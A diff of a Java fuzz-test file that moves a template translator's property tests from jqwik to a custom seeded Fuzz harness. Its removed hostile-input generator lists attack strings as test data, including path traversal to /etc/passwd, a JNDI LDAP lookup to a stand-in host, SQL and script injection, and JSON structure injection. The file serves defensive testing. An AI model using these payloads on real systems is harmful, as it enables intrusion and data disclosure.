@@ -12,18 +12,14 @@ import java.util.Iterator;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
-import net.jqwik.api.ForAll;
-import net.jqwik.api.Property;
-import net.jqwik.api.Provide;
+import org.junit.jupiter.api.Test;
 
 /**
  * The expression language and the translation of (template, tier, parameters) into the backend
  * payload: expressions parse or say why, evaluate to a scalar or say why; translation of valid
  * requests is deterministic, writes values of the declared types, and takes hostile strings as
- * string values only, never as structure.
+ * string values only, never as structure. Seeded fuzz tests: see {@link Fuzz} for the seed, the
+ * number of tries and a replay.
  */
 class TemplateTranslationPropertyTest {
 
@@ -34,9 +30,24 @@ class TemplateTranslationPropertyTest {
 
   // ----- expressions
 
-  @Property(tries = 300)
-  void expressionsParseOrSayWhyAndEvaluateToAScalarOrSayWhy(
-      @ForAll("expressionText") String source, @ForAll("scalarLists") List<Object> values) {
+  record ExpressionSample(String source, List<Object> values) {
+    @Override
+    public String toString() {
+      return shorten(source) + " with " + values;
+    }
+  }
+
+  @Test
+  void expressionsParseOrSayWhyAndEvaluateToAScalarOrSayWhy() {
+    Fuzz.forAll(
+        "expressionsParseOrSayWhyAndEvaluateToAScalarOrSayWhy",
+        300,
+        f -> new ExpressionSample(expressionText(f), scalarList(f)),
+        s -> expressionsParseOrSayWhyAndEvaluateToAScalarOrSayWhy(s.source(), s.values()));
+  }
+
+  private static void expressionsParseOrSayWhyAndEvaluateToAScalarOrSayWhy(
+      String source, List<Object> values) {
     Expression expression;
     try {
       expression = Expression.parse(source);
@@ -72,52 +83,34 @@ class TemplateTranslationPropertyTest {
     }
   }
 
-  @Provide
-  Arbitrary<String> expressionText() {
-    Arbitrary<String> grammar = Arbitraries.recursive(this::atoms, this::compound, 0, 4);
-    return Arbitraries.oneOf(
-        grammar,
-        grammar,
-        grammar,
-        TemplateParserFuzzPropertyTest.expressions(),
-        Arbitraries.strings().withChars("()+-*/%?:!&|<>=' .,0123456789abtier").ofMaxLength(30),
-        Arbitraries.strings().all().ofMaxLength(20));
+  static String expressionText(Fuzz f) {
+    return switch (f.choice(6)) {
+      case 0, 1, 2 -> f.expressionGrammar(4);
+      case 3 -> f.expressionSoup();
+      case 4 -> f.string("()+-*/%?:!&|<>=' .,0123456789abtier", 0, 30);
+      default -> f.string(20);
+    };
   }
 
-  private Arbitrary<String> atoms() {
-    return Arbitraries.oneOf(
-        Arbitraries.of("a", "b", "tier", "true", "false", "'x'", "''", "'draft'"),
-        Arbitraries.longs().between(0, Long.MAX_VALUE).map(String::valueOf),
-        Arbitraries.of("0", "0.5", "2.0", "1" + "0".repeat(400) + ".0", "9223372036854775807"));
-  }
-
-  private Arbitrary<String> compound(Arbitrary<String> inner) {
-    Arbitrary<String> op =
-        Arbitraries.of("+", "-", "*", "/", "%", "<", "<=", ">", ">=", "==", "!=", "&&", "||");
-    return Arbitraries.oneOf(
-        Combinators.combine(inner, op, inner).as((l, o, r) -> l + " " + o + " " + r),
-        inner.map(e -> "(" + e + ")"),
-        inner.map(e -> "-" + e),
-        inner.map(e -> "!" + e),
-        Combinators.combine(inner, inner, inner).as((c, y, n) -> c + " ? " + y + " : " + n),
-        Combinators.combine(Arbitraries.of("min", "max", "round", "floor", "ceil", "abs"), inner)
-            .as((f, e) -> f + "(" + e + ")"),
-        Combinators.combine(Arbitraries.of("min", "max"), inner, inner)
-            .as((f, x, y) -> f + "(" + x + ", " + y + ")"));
-  }
-
-  @Provide
-  Arbitrary<List<Object>> scalarLists() {
-    return Arbitraries.oneOf(
-            Arbitraries.longs().map(Object.class::cast),
-            Arbitraries.of(Long.MAX_VALUE, Long.MIN_VALUE, 0L, -1L).map(Object.class::cast),
-            Arbitraries.doubles().between(-1e300, 1e300).map(Object.class::cast),
-            Arbitraries.of(0.0, -0.0, 1e308, Double.MIN_VALUE).map(Object.class::cast),
-            Arbitraries.strings().ofMaxLength(8).map(Object.class::cast),
-            Arbitraries.of(true, false).map(Object.class::cast))
-        .injectNull(0.1)
-        .list()
-        .ofMaxSize(3);
+  static List<Object> scalarList(Fuzz f) {
+    return f.list(
+        0,
+        3,
+        () ->
+            f.orNull(
+                0.1,
+                () ->
+                    switch (f.choice(6)) {
+                      case 0 -> f.anyLong();
+                      case 1 -> f.of(Long.MAX_VALUE, Long.MIN_VALUE, 0L, -1L);
+                      case 2 -> {
+                        double d = f.anyDouble();
+                        yield Math.abs(d) <= 1e300 ? d : f.between(-1e300, 1e300);
+                      }
+                      case 3 -> f.of(0.0, -0.0, 1e308, Double.MIN_VALUE);
+                      case 4 -> f.string(8);
+                      default -> f.bool();
+                    }));
   }
 
   // ----- translation of valid requests
@@ -129,9 +122,18 @@ class TemplateTranslationPropertyTest {
     }
   }
 
-  @Property(tries = 300)
-  void validRequestsTranslateDeterministicallyToValuesOfTheDeclaredTypes(
-      @ForAll("shippedRequests") ShippedRequest request) {
+  @Test
+  void validRequestsTranslateDeterministicallyToValuesOfTheDeclaredTypes() {
+    Fuzz.forAll(
+        "validRequestsTranslateDeterministicallyToValuesOfTheDeclaredTypes",
+        300,
+        TemplateTranslationPropertyTest::shippedRequest,
+        TemplateTranslationPropertyTest
+            ::validRequestsTranslateDeterministicallyToValuesOfTheDeclaredTypes);
+  }
+
+  private static void validRequestsTranslateDeterministicallyToValuesOfTheDeclaredTypes(
+      ShippedRequest request) {
     assertThat(ParameterValidator.validate(request.template(), request.params())).isEmpty();
     TemplateTranslator.Translation first = translate(request);
     TemplateTranslator.Translation second = translate(request);
@@ -189,67 +191,70 @@ class TemplateTranslationPropertyTest {
   }
 
   /** A request as the API lets it through: only declared parameters, each valid for its spec. */
-  @Provide
-  Arbitrary<ShippedRequest> shippedRequests() {
+  static ShippedRequest shippedRequest(Fuzz f) {
+    return until(f, r -> true);
+  }
+
+  /** Generates requests until one passes the validator and the filter. */
+  private static ShippedRequest until(Fuzz f, java.util.function.Predicate<ShippedRequest> filter) {
     List<FunctionTemplate> templates = REGISTRY.functions();
-    return Combinators.combine(Arbitraries.of(templates), Arbitraries.of(QualityTier.values()))
-        .flatAs((template, tier) -> {
-          List<Arbitrary<Map.Entry<String, Object>>> entries = new ArrayList<>();
-          for (ParameterSpec spec : template.parameters().values()) {
-            entries.add(validEntry(spec));
-          }
-          return Combinators.combine(entries)
-              .as(list -> {
-                Map<String, Object> params = new LinkedHashMap<>();
-                list.stream()
-                    .filter(e -> e.getKey() != null)
-                    .forEach(e -> params.put(e.getKey(), e.getValue()));
-                return new ShippedRequest(template, tier, params);
-              });
-        })
-        .filter(r -> ParameterValidator.validate(r.template(), r.params()).isEmpty());
-  }
-
-  /** Left out (null key), or a valid value; null when nullable. */
-  private static Arbitrary<Map.Entry<String, Object>> validEntry(ParameterSpec spec) {
-    Arbitrary<Object> value = validValue(spec, hostile());
-    if (spec.nullable()) {
-      value = value.injectNull(0.1);
+    for (int attempt = 0; attempt < 10_000; attempt++) {
+      FunctionTemplate template = f.of(templates);
+      QualityTier tier = f.of(QualityTier.values());
+      Map<String, Object> params = new LinkedHashMap<>();
+      for (ParameterSpec spec : template.parameters().values()) {
+        // left out (one time in four), or a valid value; null when nullable
+        if (f.weighted(3, 1) == 0) {
+          params.put(
+              spec.name(),
+              spec.nullable()
+                  ? f.orNull(0.1, () -> validValue(f, spec, f::hostile))
+                  : validValue(f, spec, f::hostile));
+        }
+      }
+      ShippedRequest request = new ShippedRequest(template, tier, params);
+      if (ParameterValidator.validate(template, params).isEmpty() && filter.test(request)) {
+        return request;
+      }
     }
-    Arbitrary<Map.Entry<String, Object>> given =
-        value.map(v -> new java.util.AbstractMap.SimpleEntry<String, Object>(spec.name(), v));
-    Map.Entry<String, Object> leftOut = new java.util.AbstractMap.SimpleEntry<>(null, null);
-    return Arbitraries.oneOf(given, given, given, Arbitraries.just(leftOut));
+    return fail("no valid request in 10000 attempts");
   }
 
-  static Arbitrary<Object> validValue(ParameterSpec spec, Arbitrary<String> text) {
+  static Object validValue(Fuzz f, ParameterSpec spec, java.util.function.Supplier<String> text) {
     if (!spec.enumValues().isEmpty()) {
-      return Arbitraries.of(spec.enumValues());
+      return f.of(spec.enumValues());
     }
     double lo = spec.min() == null ? -1e12 : spec.min();
     double hi = spec.max() == null ? 1e12 : spec.max();
     return switch (spec.type()) {
-      case "integer" ->
-          Arbitraries.longs()
-              .between((long) Math.ceil(lo), (long) Math.floor(hi))
-              .map(Object.class::cast);
-      case "number" ->
-          Arbitraries.oneOf(
-              Arbitraries.doubles().between(lo, hi).map(Object.class::cast),
-              Arbitraries.of(lo, hi).map(Object.class::cast));
-      case "boolean" -> Arbitraries.of(true, false).map(Object.class::cast);
-      case "image" ->
-          Arbitraries.of("uploads/a.png", "uploads/my photo.png", "outputs/x-1_2.webp")
-              .map(Object.class::cast);
-      default -> text.map(Object.class::cast);
+      case "integer" -> f.between((long) Math.ceil(lo), (long) Math.floor(hi));
+      case "number" -> f.bool() ? f.between(lo, hi) : f.of(lo, hi);
+      case "boolean" -> f.bool();
+      case "image" -> f.of("uploads/a.png", "uploads/my photo.png", "outputs/x-1_2.webp");
+      default -> text.get();
     };
   }
 
   // ----- hostile strings
 
-  @Property(tries = 300)
-  void hostileStringsAreStringValuesNeverStructure(
-      @ForAll("freeTextRequests") ShippedRequest request, @ForAll("hostileText") String hostile) {
+  record HostileSample(ShippedRequest request, String hostile) {
+    @Override
+    public String toString() {
+      return request + " attacked with " + shorten(hostile);
+    }
+  }
+
+  @Test
+  void hostileStringsAreStringValuesNeverStructure() {
+    Fuzz.forAll(
+        "hostileStringsAreStringValuesNeverStructure",
+        300,
+        f -> new HostileSample(freeTextRequest(f), f.hostile()),
+        s -> hostileStringsAreStringValuesNeverStructure(s.request(), s.hostile()));
+  }
+
+  private static void hostileStringsAreStringValuesNeverStructure(
+      ShippedRequest request, String hostile) {
     String name = freeText(request.template()).get(0);
     Map<String, Object> safe = new LinkedHashMap<>(request.params());
     safe.put(name, "SAFE");
@@ -271,9 +276,8 @@ class TemplateTranslationPropertyTest {
     assertThat(containsText(b.payload(), hostile)).isTrue();
   }
 
-  @Provide
-  Arbitrary<ShippedRequest> freeTextRequests() {
-    return shippedRequests().filter(r -> !freeText(r.template()).isEmpty());
+  static ShippedRequest freeTextRequest(Fuzz f) {
+    return until(f, r -> !freeText(r.template()).isEmpty());
   }
 
   /** The string parameters without choices: where a person's words go. */
@@ -282,41 +286,6 @@ class TemplateTranslationPropertyTest {
         .filter(s -> s.type().equals("string") && s.enumValues().isEmpty())
         .map(ParameterSpec::name)
         .toList();
-  }
-
-  @Provide
-  Arbitrary<String> hostileText() {
-    return hostile();
-  }
-
-  static Arbitrary<String> hostile() {
-    return Arbitraries.oneOf(
-        Arbitraries.of(
-            "../../../etc/passwd",
-            "..\\..\\windows\\win.ini",
-            "/etc/passwd",
-            "${jndi:ldap://evil/x}",
-            "${prompt}",
-            "#{1+1}",
-            "{{7*7}}",
-            "\", \"class_type\": \"Evil\", \"x\": \"",
-            "{\"999\": {\"class_type\": \"SaveImage\", \"inputs\": {}}}",
-            "[\"1\", 0]",
-            "1.inputs.width",
-            "$gradio",
-            "tier",
-            "null",
-            "true",
-            "42",
-            "\u0000\u001f\u007f",
-            "\uD83D\uDE00\u202E\u200B",
-            "'; DROP TABLE x; --",
-            "<script>alert(1)</script>"),
-        Arbitraries.strings().all().ofMaxLength(40),
-        Arbitraries.integers()
-            .between(1000, 10_500)
-            .map(n -> "{\"a\":[".repeat(n / 6))
-            .map(s -> s.length() > 10_000 ? s.substring(0, 10_000) : s));
   }
 
   // ----- helpers
